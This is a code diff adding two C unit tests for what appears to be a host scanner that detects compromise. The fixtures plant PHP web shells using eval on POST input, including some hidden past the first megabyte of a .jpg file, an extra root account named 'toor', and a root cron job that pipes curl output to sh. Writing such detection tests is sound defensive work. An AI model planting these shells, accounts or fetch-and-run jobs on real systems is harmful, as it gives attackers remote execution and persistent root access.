@@ -204,6 +204,73 @@ static void test_many_are_bounded(void **state)
     tree_done(&t);
 }
 
+/* Sixty decoys do not keep an account and a timed job out of sight. */
+static void test_decoys(void **state)
+{
+    struct hb_accounts before;
+    struct hb_json *got;
+    struct tree t;
+
+    (void)state;
+    tree_open(&t);
+    for (int i = 0; i < 60; i++) {
+        char name[64];
+
+        (void)snprintf(name, sizeof(name), "/srv/www/%d.php", i);
+        put(&t, name, "<?php eval($_POST[1]);", 0644);
+    }
+    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
+    put(&t, "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\n"
+        "www-data:x:33:33:www:/var/www:/usr/sbin/nologin\n"
+        "hanako:x:1000:1000:Hanako:/home/hanako:/bin/bash\n"
+        "toor:x:0:0::/:/bin/sh\n",
+        0644);
+    put(&t, "/etc/cron.d/job", "* * * * * root curl x | sh\n", 0644);
+    got = search(&t, &before);
+    assert_true(tells(got, "search.hit", "toor"));
+    assert_true(tells(got, "search.hit", "/etc/cron.d/job"));
+    HB_JSON_EACH (m, hb_json_get(got, "moments"))
+        if (hb_streq(hb_json_str(m, "kind", ""), "search.left"))
+            assert_int_equal(
+                hb_json_int(hb_json_get(m, "args"), "count", 0) + 30, 60);
+    assert_int_equal(hb_json_int(got, "__leftovers__", -1), 63);
+    tree_done(&t);
+}
+
+/* What lies behind the first megabyte: all of a script, the end of others. */
+static void test_large_files(void **state)
+{
+    static const char *const names[] = {"/srv/www/a.php", "/srv/www/b.jpg"};
+    struct hb_accounts before;
+    struct hb_json *got;
+    struct tree t;
+
+    (void)state;
+    tree_open(&t);
+    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
+    for (size_t i = 0; i < HB_ARRAY_LEN(names); i++) {
+        char full[256];
+        int fd;
+
+        put(&t, names[i], "x", 0644);
+        (void)snprintf(full, sizeof(full), "%s%s", t.path, names[i]);
+        fd = open(full, O_WRONLY);
+        assert_true(fd >= 0);
+        assert_int_equal(ftruncate(fd, 5 << 20), 0);
+        /* Across two pieces that are read one after the other. */
+        assert_int_equal(
+            hb_pwrite_all(fd, "<?php eval($_POST[1]); ?>", 25,
+                          i == 0 ? (1 << 20) - 12 : (5 << 20) - 40),
+            0);
+        (void)close(fd);
+    }
+    got = search(&t, &before);
+    assert_true(tells(got, "search.hit", "a.php"));
+    assert_true(tells(got, "search.hit", "b.jpg"));
+    tree_done(&t);
+}
+
 static void login(struct tree *t, const char *user, int64_t at)
 {
     char record[384] = {7}, path[256];
@@ -308,6 +375,8 @@ int main(void)
         cmocka_unit_test(test_leftovers),
         cmocka_unit_test(test_unsearched_is_not_clean),
         cmocka_unit_test(test_many_are_bounded),
+        cmocka_unit_test(test_decoys),
+        cmocka_unit_test(test_large_files),
         cmocka_unit_test(test_collect),
         cmocka_unit_test(test_utmp),
     };
